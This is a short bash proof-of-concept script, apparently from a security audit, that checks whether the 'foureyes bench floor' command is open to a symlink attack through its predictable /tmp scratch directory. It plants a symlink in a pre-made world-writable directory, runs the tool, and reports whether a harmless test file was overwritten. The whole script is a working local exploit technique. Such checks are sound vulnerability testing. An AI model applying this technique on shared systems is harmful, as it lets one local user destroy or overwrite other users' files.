#!/usr/bin/env bash
# H3: `foureyes bench floor` uses the predictable scratch directory /tmp/foureyes-floor-<pid>, accepts one that already
# exists (made by another local user), and opens `log` in it with O_TRUNC and without O_NOFOLLOW: a symlink planted
# there makes it truncate and write a file outside its scratch directory (as whoever runs the bench).
# Usage: FOUREYES_BIN=/path/foureyes ./h3_bench_floor_predictable_dir.sh
set -u
F=${FOUREYES_BIN:?}; V=$(mktemp /tmp/attack34-h3-victim.XXXX); echo "precious content" > "$V"; chmod 644 "$V"
bash -c 'D=/tmp/foureyes-floor-$$; mkdir -m 777 "$D"; ln -s "$1" "$D/log"; exec "$2" bench floor --seconds 0.2 --pages 1 --cases frames' _ "$V" "$F" >/tmp/attack34-h3.out 2>&1
echo "bench exit: $?"; tail -2 /tmp/attack34-h3.out
echo "victim now: $(stat -c '%s bytes' "$V"), first bytes: $(head -c 60 "$V" | od -c | head -2 | tr -s ' ' | tr '\n' ' ')"
grep -q "precious content" "$V" && echo "HELD: victim untouched" || echo "HOLE: victim outside the scratch dir was truncated/overwritten"
ls -la /tmp | grep foureyes-floor || echo "no foureyes-floor dir left"
rm -f "$V" /tmp/attack34-h3.out; find /tmp -maxdepth 1 -name 'foureyes-floor-*' -user "$(id -u)" -exec rm -rf {} + 2>/dev/null
